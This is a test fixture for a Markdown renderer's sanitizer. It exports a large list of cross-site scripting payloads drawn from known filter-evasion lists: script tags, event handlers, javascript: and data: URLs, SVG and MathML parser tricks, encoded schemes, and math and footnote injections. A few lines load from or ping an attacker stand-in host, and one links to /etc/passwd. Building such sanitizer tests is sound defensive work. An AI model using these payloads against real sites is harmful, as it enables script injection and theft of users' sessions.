/**
 * Ways to get a script through Markdown, collected from the well-known lists (OWASP filter evasion, html5sec, the DOMPurify and
 * markdown-it test suites' ideas) and from what this renderer adds. `pwn()` must never run.
 */
const html = String.raw`
<script>pwn()</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<script/x>pwn()</script>
<<script>pwn()//<</script>
<scr<script>ipt>pwn()</scr</script>ipt>
<script>pwn()
</script x><script>pwn()</script>
<svg><script>pwn()</script></svg>
<svg><script xlink:href="data:text/javascript,pwn()"></script></svg>
<math><script>pwn()</script></math>
<img src=x onerror=pwn()>
<img src=x onerror="pwn()">
<img/src=x/onerror=pwn()>
<img src="x" onerror = 'pwn()'>
<IMG SRC=x ONERROR=pwn()>
<img src=x:x onerror=pwn()//
<img """><script>pwn()</script>">
<img src="javascript:pwn()">
<img src=javascript:pwn()>
<img src="jav&#x09;ascript:pwn()">
<img src="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;pwn()">
<img src="data:text/html,<script>pwn()</script>">
<img srcset="x" onload=pwn() src=x>
<img src=x onerror=&#112;wn()>
<img src='x' style="background:url(javascript:pwn())">
<image src=x onerror=pwn()>
<img lowsrc="javascript:pwn()">
<img dynsrc="javascript:pwn()">
<svg onload=pwn()>
<svg/onload=pwn()>
<svg><g onload=pwn()></g></svg>
<svg><animate onbegin=pwn() attributeName=x dur=1s>
<svg><set attributeName=onmouseover to=pwn()></svg>
<svg><a xlink:href="javascript:pwn()"><text x=20 y=20>x</text></a></svg>
<svg><a><animate attributeName=href values="javascript:pwn()"></animate><text>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>pwn()</script></svg>#x"></use></svg>
<svg><foreignObject><iframe onload=pwn()></iframe></foreignObject></svg>
<svg><style><img src=x onerror=pwn()></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=pwn()>">
<svg><p><style><!--</style><img src=x onerror=pwn()>--></style></p></svg>
<svg><desc><noscript></desc><img src=x onerror=pwn()></noscript></svg>
<svg><title><img src=x onerror=pwn()></title></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwn()&gt;">
<math><mtext><mglyph><style><img src=x onerror=pwn()></style></mglyph></mtext></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwn()>
<math><annotation-xml encoding="text/html"><script>pwn()</script></annotation-xml></math>
<math><maction actiontype="statusline#http://x" xlink:href="javascript:pwn()">x</maction></math>
<math href="javascript:pwn()">x</math>
<math><mi xlink:href="javascript:pwn()">x</mi></math>
<style>@import 'javascript:pwn()';</style>
<style>*{background:url("javascript:pwn()")}</style>
<style><!--</style><script>pwn()</script>-->
<link rel=stylesheet href="javascript:pwn()">
<link rel=import href="data:text/html,<script>pwn()</script>">
<div style="width:expression(pwn())">x</div>
<div style="behavior:url(x.htc)">x</div>
<div style="-moz-binding:url(x.xml#x)">x</div>
<div style="position:fixed;inset:0">cover</div>
<noscript><p title="</noscript><img src=x onerror=pwn()>">
<noscript><style></noscript><img src=x onerror=pwn()></style>
<template><script>pwn()</script></template>
<template><img src=x onerror=pwn()></template>
<textarea><img title="</textarea><img src=x onerror=pwn()>">
<title><img title="</title><img src=x onerror=pwn()>">
<xmp><img title="</xmp><img src=x onerror=pwn()>">
<noembed><img title="</noembed><img src=x onerror=pwn()>">
<noframes><img title="</noframes><img src=x onerror=pwn()>">
<plaintext><img src=x onerror=pwn()>
<select><style></select><img src=x onerror=pwn()></style></select>
<select><template><img src=x onerror=pwn()></template></select>
<option><style></option></select><img src=x onerror=pwn()></style>
<iframe src="javascript:pwn()"></iframe>
<iframe srcdoc="<script>parent.pwn()</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=parent.pwn()&gt;">
<iframe onload=pwn()>
<frameset onload=pwn()><frame src="javascript:pwn()"></frameset>
<object data="javascript:pwn()"></object>
<object data="data:text/html,<script>pwn()</script>"></object>
<object type="text/x-scriptlet" data="x"></object>
<embed src="javascript:pwn()">
<embed code="data:text/html,<script>pwn()</script>">
<applet code="x" archive="javascript:pwn()"></applet>
<meta http-equiv=refresh content="0;url=javascript:pwn()">
<meta http-equiv="refresh" content="0;url=data:text/html,<script>pwn()</script>">
<meta http-equiv="Set-Cookie" content="x=y">
<base href="javascript:pwn()//">
<base href="https://evil.example/">
<form action="javascript:pwn()"><input type=submit autofocus></form>
<form><button formaction="javascript:pwn()">x</button></form>
<form id=x></form><button form=x formaction="javascript:pwn()">x</button>
<isindex type=image src=1 onerror=pwn()>
<input autofocus onfocus=pwn()>
<input type=image src=x onerror=pwn()>
<button onclick=pwn() autofocus>x</button>
<textarea autofocus onfocus=pwn()></textarea>
<select autofocus onfocus=pwn()></select>
<keygen autofocus onfocus=pwn()>
<video src=x onerror=pwn()></video>
<video><source onerror=pwn()></video>
<video poster="javascript:pwn()"></video>
<audio src=x onerror=pwn()>
<details open ontoggle=pwn()>x</details>
<marquee onstart=pwn()>x</marquee>
<body onload=pwn()>
<body background="javascript:pwn()">
<body onpageshow=pwn()>
<html onmouseover=pwn()>
<table background="javascript:pwn()"><tr><td background="javascript:pwn()">x</table>
<bgsound src="javascript:pwn()">
<layer src="javascript:pwn()"></layer>
<portal src="javascript:pwn()"></portal>
<dialog open onclose=pwn()>x</dialog>
<div popover id=p onbeforetoggle=pwn()>x</div>
<a href="javascript:pwn()">x</a>
<a href=" javascript:pwn()">x</a>
<a href="java&Tab;script:pwn()">x</a>
<a href="java&NewLine;script:pwn()">x</a>
<a href="javascript&colon;pwn()">x</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;pwn()">x</a>
<a href="&#0000106avascript:pwn()">x</a>
<a href="&#1;javascript:pwn()">x</a>
<a href="JaVaScRiPt:pwn()">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==">x</a>
<a href="blob:https://x/y">x</a>
<a href="view-source:javascript:pwn()">x</a>
<a href="feed:javascript:pwn()">x</a>
<a href="https://x" ping="https://evil.example/" target=_blank rel=opener>x</a>
<a onmouseover=pwn()>x</a>
<a href="x" style="x:expression(pwn())">x</a>
<a xlink:href="javascript:pwn()">x</a>
<area href="javascript:pwn()"><map name=x><area href="javascript:pwn()"></map>
<q cite="javascript:pwn()">x</q>
<blockquote cite="javascript:pwn()">x</blockquote>
<p id=location name=location>x</p>
<img name=getElementById src=x>
<a id=fn-1 name=cookie>x</a><a id=defaultView>x</a>
<b id="text" class="anchor callout line">x</b>
<div data-slot="00000000-0000-0000-0000-000000000000-0">x</div>
<pre data-slot="0">x</pre>
<!--><img src=x onerror=pwn()>-->
<!-- --!><img src=x onerror=pwn()>-->
<![CDATA[><img src=x onerror=pwn()>]]>
<?xml version="1.0"?><img src=x onerror=pwn()>
<!DOCTYPE html><img src=x onerror=pwn()>
<x contenteditable onfocus=pwn() autofocus tabindex=1>x</x>
<x onclick=pwn() id=x tabindex=1 onfocus=pwn()>x</x>
<p/onmouseover=pwn()>x
<p title="x" onclick	=pwn()>x
<p title='"><script>pwn()</script>'>x
<b onmouseover="pwn()"><i></b><script>pwn()</script></i>
<table><tr><td><style></table><img src=x onerror=pwn()></style>
<a href="x"><table><a href="javascript:pwn()">x</a></table></a>
`;

const markdown = [
  '[x](javascript:pwn())',
  '[x](JAVASCRIPT:pwn())',
  '[x](<javascript:pwn()>)',
  '[x](<java\tscript:pwn()>)',
  '[x](javascript&colon;pwn())',
  '[x](&#x6A;avascript:pwn())',
  '[x](&#1;javascript:pwn())',
  '[x](java&Tab;script:pwn())',
  '[x](java&NewLine;script:pwn())',
  '[x](\\javascript:pwn())',
  '[x](javascript:pwn()//https://ok.example)',
  '[x](vbscript:pwn())',
  '[x](data:text/html,<script>pwn()</script>)',
  '[x](data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==)',
  '[x](file:///etc/passwd)',
  '[x]\n\n[x]: javascript:pwn()',
  '[x][y]\n\n[y]: <javascript:pwn()> "title"',
  '[x](https://ok.example "title\\" onmouseover=pwn() x=\\"")',
  '[x](https://ok.example \'x" onmouseover="pwn()\')',
  '[<img src=x onerror=pwn()>](https://ok.example)',
  '<javascript:pwn()>',
  '<data:text/html,pwn()>',
  'https://ok.example/"onmouseover="pwn()',
  'www.ok.example/<script>pwn()</script>',
  'x"onclick=pwn()@example.com',
  '![x](javascript:pwn())',
  '![x](data:image/svg+xml,<svg/onload=pwn()>)',
  '![x" onerror="pwn()](x.png)',
  '![x](x.png" onerror="pwn())',
  '![x](x.png "\\"><script>pwn()</script>")',
  '![<script>pwn()</script>](x.png "<img src=x onerror=pwn()>")',
  '# <img src=x onerror=pwn()>',
  '# "><script>pwn()</script>',
  '# x" onmouseover="pwn()',
  '# `<script>pwn()</script>`',
  '# [x](javascript:pwn())',
  '# user-content-x\n\n# fn-1\n\n# __proto__\n\n# constructor',
  '[^x]\n\n[^x]: <script>pwn()</script>',
  '[^x]\n\n[^x]: [x](javascript:pwn())',
  '[^"><script>pwn()</script>]\n\n[^"><script>pwn()</script>]: x',
  '[^x"onclick="pwn()]\n\n[^x"onclick="pwn()]: x',
  '[^__proto__] [^constructor]\n\n[^__proto__]: x\n\n[^constructor]: y',
  '[a[^x]b](https://ok.example)\n\n[^x]: x',
  '> [!NOTE] <script>pwn()</script>\n> x',
  '> [!NOTE] <img src=x onerror=pwn()>\n> x',
  '> [!TIP] [x](javascript:pwn())\n> x',
  '> [!NOTE" onclick="pwn()] x\n> x',
  '> <aside>\n> [!NOTE]\n> </aside><script>pwn()</script>',
  '```"><script>pwn()</script>\nx\n```',
  '```ts title="<script>pwn()</script>"\nx\n```',
  "```ts title='\"><img src=x onerror=pwn()>'\nx\n```",
  '```js" onmouseover="pwn()\nx\n```',
  '```html\n<script>pwn()</script>\n<img src=x onerror=pwn()>\n```',
  '```__proto__\nx\n```\n\n```constructor\nx\n```',
  '```html {1}\n</code></pre><script>pwn()</script>\n```',
  '```js\nx // [!code ++] </span><script>pwn()</script>\n```',
  '    </code></pre><script>pwn()</script>',
  '`</code><script>pwn()</script>`',
  '$\\href{javascript:pwn()}{x}$',
  '$\\url{javascript:pwn()}$',
  '$$\n\\href{javascript:pwn()}{x}\n$$',
  '$\\includegraphics{javascript:pwn()}$',
  '$\\class{x" onclick="pwn()}{x}$',
  '$\\id{location}{x}$',
  '$\\style{background:url(javascript:pwn())}{x}$',
  '$\\data{slot=x}{x}$',
  '$\\text{<img src=x onerror=pwn()>}$',
  '$\\text{</mtext></math><script>pwn()</script>}$',
  '$\\textcolor{red" onclick="pwn()}{x}$',
  '$\\textcolor{expression(pwn())}{x}$',
  '$\\unknown<script>pwn()</script>$',
  '$\\unicode{x3cscript>pwn()</script>}$',
  '$\\rule{1em;background:url(javascript:pwn())}{1em}$',
  '$\\begin{array}{c" onclick="pwn()}x\\end{array}$',
  '- [x] <script>pwn()</script>\n- [ ] <img src=x onerror=pwn()>',
  '- [ ] <input onfocus=pwn() autofocus>',
  '| <script>pwn()</script> | a |\n|:-:|---|\n| <img src=x onerror=pwn()> | [x](javascript:pwn()) |',
  '| a |\n|---|\n| </td></table><script>pwn()</script> |',
  '<table>\n\n| a |\n|---|\n| <style> |\n\n</table><img src=x onerror=pwn()>',
  '<div>\n\n[x](javascript:pwn())\n\n</div>',
  '<b>**<script>**pwn()</script></b>',
  '*<a href="javascript:pwn()">*x*</a>*',
  '<svg>\n\n# <img src=x onerror=pwn()>\n\n</svg>',
  '<math>\n\n```html\n<img src=x onerror=pwn()>\n```\n\n</math>',
  '<style>\n\n> [!NOTE]\n> </style><img src=x onerror=pwn()>',
  '<textarea>\n\n$x$ </textarea><img src=x onerror=pwn()>',
  '<a href="https://ok.example">\n\n# x\n\n</a><a href="javascript:pwn()">y',
  '<img src=x\nonerror=pwn()>',
  '<img src="x\n" onerror="pwn()">',
  '<scr\0ipt>pwn()</scr\0ipt>',
  '[x](java\0script:pwn())',
  '[x](java\uFEFFscript:pwn())',
  '[x](\u2028javascript:pwn())',
  '\uFEFF<script>pwn()</script>',
  '&lt;script&gt;pwn()&lt;/script&gt;',
  '\\<script>pwn()\\</script>',
  '<script\u00A0>pwn()</script>',
  '＜script＞pwn()＜/script＞',
];

export const payloads: string[] = [...html.trim().split('\n'), ...markdown];
